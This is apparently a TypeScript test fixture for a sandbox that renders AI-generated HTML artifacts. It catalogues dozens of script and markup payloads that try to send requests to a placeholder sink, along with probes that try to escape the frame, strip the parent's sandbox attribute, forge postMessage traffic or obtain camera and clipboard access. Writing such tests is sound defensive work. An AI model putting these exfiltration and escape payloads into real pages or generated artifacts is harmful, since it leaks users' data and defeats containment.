/** A document that tries to get out. `SINK` stands for an address that must not be reached. */
export interface Attempt {
  id: string;
  input: string;
  /** Leaks from a single sandboxed frame with a policy of its own: shows that the sink sees what it should. */
  leaksFromSingleFrame?: boolean;
}

export const script = (code: string): string => `<script>${code}</script>`;
const late = (code: string): string => script(`setTimeout(() => { ${code} }, 50)`);

export const ATTEMPTS: Attempt[] = [
  { id: 'location', input: script('location = SINK'), leaksFromSingleFrame: true },
  { id: 'location-href', input: late('location.href = SINK'), leaksFromSingleFrame: true },
  { id: 'location-assign', input: script('location.assign(SINK)'), leaksFromSingleFrame: true },
  { id: 'location-replace', input: late('location.replace(SINK)'), leaksFromSingleFrame: true },
  { id: 'meta-refresh', input: '<meta http-equiv="refresh" content="0;url=SINK">', leaksFromSingleFrame: true },
  { id: 'anchor-click', input: `<a id="a" href="SINK">x</a>${late('a.click()')}`, leaksFromSingleFrame: true },
  {
    id: 'anchor-stopped',
    input: `<a id="a" href="SINK">x</a>${late("addEventListener('click', (e) => e.stopImmediatePropagation(), true); a.click()")}`,
    leaksFromSingleFrame: true,
  },
  {
    id: 'svg-anchor',
    input: `<svg><a id="a" href="SINK"><text y="9">x</text></a></svg>${late("a.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")}`,
  },
  { id: 'window-open-self', input: script("window.open(SINK, '_self')"), leaksFromSingleFrame: true },
  { id: 'window-open-blank', input: script('window.open(SINK)') },
  { id: 'navigation-api', input: script('navigation.navigate(SINK).finished.catch(() => {})') },
  { id: 'data-navigation', input: script("location = 'data:text/html,<img src=' + SINK + '>'") },
  {
    id: 'blob-navigation',
    input: script("location = URL.createObjectURL(new Blob(['<img src=' + SINK + '>'], {type: 'text/html'}))"),
  },
  { id: 'javascript-navigation', input: script("location = 'javascript:new Image().src=' + JSON.stringify(SINK)") },
  { id: 'fetch', input: script("fetch(SINK, {mode: 'no-cors'}).catch(() => {})") },
  { id: 'fetch-keepalive', input: script("fetch(SINK, {mode: 'no-cors', keepalive: true}).catch(() => {})") },
  { id: 'websocket', input: script("try { new WebSocket(SINK.replace('http', 'ws')) } catch {}") },
  {
    id: 'webtransport',
    input: script("try { new WebTransport(SINK.replace('http:', 'https:')).ready.catch(() => {}) } catch {}"),
  },
  { id: 'img-srcset', input: '<img srcset="SINK 1x"><img src="SINK">' },
  { id: 'picture', input: '<picture><source srcset="SINK"><img></picture>' },
  { id: 'css-import', input: '<style>@import url(SINK);</style><link rel="stylesheet" href="SINK">' },
  {
    id: 'css-images',
    input:
      '<style>body{background:image-set(url(SINK) 1x);list-style:url(SINK);cursor:url(SINK),auto;border-image:url(SINK) 1}</style><ul><li>x</ul>',
  },
  { id: 'css-font', input: '<style>@font-face{font-family:f;src:url(SINK)}b{font-family:f}</style><b>x</b>' },
  {
    id: 'svg-references',
    input:
      '<svg width="9" height="9"><image href="SINK"/><use href="SINK"/><filter id="f"><feImage href="SINK"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(SINK)"/></svg>',
  },
  {
    id: 'media',
    input:
      '<video src="SINK" poster="SINK" autoplay></video><audio src="SINK" autoplay></audio><video><source src="SINK"></video>',
  },
  { id: 'objects', input: '<object data="SINK"></object><embed src="SINK">' },
  { id: 'frames', input: '<iframe src="SINK"></iframe><frameset><frame src="SINK"></frameset>' },
  {
    id: 'nested-srcdoc',
    input: script(
      "const f = document.createElement('iframe'); f.srcdoc = '<img src=' + SINK + '>'; document.documentElement.append(f)",
    ),
  },
  {
    id: 'nested-blank',
    input: script(
      "const f = document.createElement('iframe'); document.documentElement.append(f); try { f.contentWindow.location = SINK } catch {}",
    ),
  },
  {
    id: 'nested-fetch',
    input: script(
      "const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(' + JSON.stringify(SINK) + ')<\\/script>'; document.documentElement.append(f)",
    ),
  },
  {
    id: 'nested-data',
    input: script(
      "for (const type of ['data:text/html,', 'blob:']) { const f = document.createElement('iframe'); const body = '<img src=' + SINK + '>'; f.src = type === 'blob:' ? URL.createObjectURL(new Blob([body], {type: 'text/html'})) : type + body; document.documentElement.append(f) }",
    ),
  },
  {
    id: 'nested-peer-connection',
    input: script(
      "const f = document.createElement('iframe'); document.documentElement.append(f); try { const c = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDPPORT'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {}",
    ),
  },
  {
    id: 'event-source',
    input: script('new EventSource(SINK); const x = new XMLHttpRequest(); x.open("GET", SINK); x.send()'),
  },
  {
    id: 'fetch-later',
    input: script('try { fetchLater(SINK, {activateAfter: 0}) } catch {} navigator.sendBeacon(SINK)'),
  },
  {
    id: 'links',
    input:
      '<link rel="prefetch" href="SINK"><link rel="preload" as="image" href="SINK"><link rel="modulepreload" href="SINK"><link rel="manifest" href="SINK"><link rel="icon" href="SINK"><link rel="prerender" href="SINK">',
  },
  {
    id: 'speculation',
    input:
      '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SINK"],"eagerness":"immediate"}]}</script>',
  },
  { id: 'module', input: '<script type="module">import("SINK").catch(() => {})</script><script src="SINK"></script>' },
  {
    id: 'worker',
    input: script(
      "try { new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(SINK) + ');importScripts(' + JSON.stringify(SINK) + ')']))) } catch {}",
    ),
  },
  {
    id: 'shared-worker',
    input: script("try { new SharedWorker('data:text/javascript,fetch(\"' + SINK + '\")') } catch {}"),
  },
  { id: 'service-worker', input: script('try { navigator.serviceWorker.register(SINK).catch(() => {}) } catch {}') },
  {
    id: 'beacon-at-the-end',
    input: script(
      "addEventListener('pagehide', () => { navigator.sendBeacon(SINK); fetch(SINK, {keepalive: true, mode: 'no-cors'}).catch(() => {}) })",
    ),
  },
  {
    id: 'policy-removed',
    input: late("document.querySelectorAll('meta').forEach((m) => m.remove()); new Image().src = SINK"),
  },
  {
    id: 'document-written',
    input: late("document.open(); document.write('<img src=' + SINK + '>'); document.close()"),
  },
  { id: 'head-in-a-comment', input: '<!-- <head> --><img src="SINK">' },
  {
    id: 'second-document',
    input:
      '</script></style></head><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><img src="SINK">',
  },
  { id: 'base', input: '<base href="SINK"><img src="x.png"><a id="a" href="y">x</a><script>a.click()</script>' },
  { id: 'form-submit', input: `<form id="f" action="SINK"><input name="a"></form>${late('f.submit()')}` },
  {
    id: 'form-request-submit',
    input: `<form id="f" action="SINK" target="_top"><button></button></form>${late('f.requestSubmit()')}`,
  },
  {
    id: 'form-parent',
    input: `<form id="f" action="SINK" target="_parent" method="post"><input name="a"></form>${late('f.submit()')}`,
  },
  {
    id: 'top',
    input: script(
      'try { top.location = SINK } catch {} try { parent.location = SINK } catch {} try { parent.parent.location = SINK } catch {}',
    ),
  },
  { id: 'ping', input: `<a id="a" ping="SINK" href="#x">x</a>${late('a.click()')}` },
  { id: 'download', input: `<a id="a" download="x.exe" href="SINK">x</a>${late('a.click()')}` },
  {
    id: 'report-to',
    input:
      '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri SINK"><img src="http://127.0.0.1:1/">',
  },
];

/** What must not be reported as done: each calls `RPT` with a word that begins with ESCAPE where it got through. */
export const REACHES: Attempt[] = [
  {
    id: 'parent-document',
    input: script("try { RPT('ESCAPE ' + parent.parent.document.title) } catch (e) { RPT('refused') }"),
  },
  {
    id: 'frame-element',
    input: script("try { RPT(window.frameElement ? 'ESCAPE' : 'refused') } catch (e) { RPT('refused') }"),
  },
  {
    id: 'sandbox-attribute',
    input: script(
      "try { parent.document.querySelector('iframe').removeAttribute('sandbox'); RPT('ESCAPE') } catch { RPT('refused') }",
    ),
  },
  { id: 'opener', input: script("RPT(window.opener ? 'ESCAPE' : 'refused')") },
  { id: 'origin', input: script("RPT(self.origin === 'null' ? 'refused' : 'ESCAPE ' + self.origin)") },
  {
    id: 'base-address',
    input: script(
      "RPT(/^https:\\/\\/artifact\\.invalid/.test(document.baseURI) ? 'refused' : 'ESCAPE ' + document.baseURI)",
    ),
  },
  { id: 'referrer', input: script("RPT(document.referrer ? 'ESCAPE ' + document.referrer : 'refused')") },
  {
    id: 'indexed-db',
    input: script(
      "try { const r = indexedDB.open('x'); r.onsuccess = () => RPT('ESCAPE'); r.onerror = () => RPT('refused') } catch { RPT('refused') }",
    ),
  },
  {
    id: 'camera',
    input: script(
      "try { navigator.mediaDevices.getUserMedia({video: true}).then(() => RPT('ESCAPE'), () => RPT('refused')) } catch { RPT('refused') }",
    ),
  },
  {
    id: 'clipboard',
    input: script(
      "try { navigator.clipboard.writeText('x').then(() => RPT('ESCAPE'), () => RPT('refused')) } catch { RPT('refused') }",
    ),
  },
  {
    id: 'fullscreen',
    input: script("document.documentElement.requestFullscreen().then(() => RPT('ESCAPE'), () => RPT('refused'))"),
  },
  {
    id: 'pointer-lock',
    input: script(
      "Promise.resolve(document.documentElement.requestPointerLock()).then(() => RPT(document.pointerLockElement ? 'ESCAPE' : 'refused'), () => RPT('refused'))",
    ),
  },
  {
    id: 'dialogs',
    input: script(
      "for (let n = 0; n < 100; n++) alert(n); print(); RPT(confirm('x') || prompt('x') ? 'ESCAPE' : 'refused')",
    ),
  },
  {
    id: 'permissions',
    input: script(
      "Promise.allSettled([Notification.requestPermission(), new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)), navigator.storage.persist()]).then((all) => RPT(all.some(({value}) => value === 'granted' || value === true || value?.coords) ? 'ESCAPE' : 'refused'), () => RPT('refused')); RPT('asked')",
    ),
  },
  {
    id: 'forged-messages',
    input: script(
      "const forged = {type: 'console', level: 'log', args: ['RPT ESCAPE forged']}; top.postMessage(forged, '*'); for (let n = 0; n < top.length; n++) { const c = new MessageChannel(); c.port1.onmessage = () => RPT('ESCAPE port'); top[n].postMessage('ai-artifact-port', '*', [c.port2]); top[n].postMessage(forged, '*'); top[n].postMessage({type: 'render', html: 'x'}, '*') } RPT('sent')",
    ),
  },
  {
    id: 'storage',
    input: script("localStorage.setItem('escaped', '1'); document.cookie = 'escaped=1'; RPT('kept in memory')"),
  },
  { id: 'peer-connection', input: script("RPT(window.RTCPeerConnection ? 'ESCAPE' : 'refused')") },
];
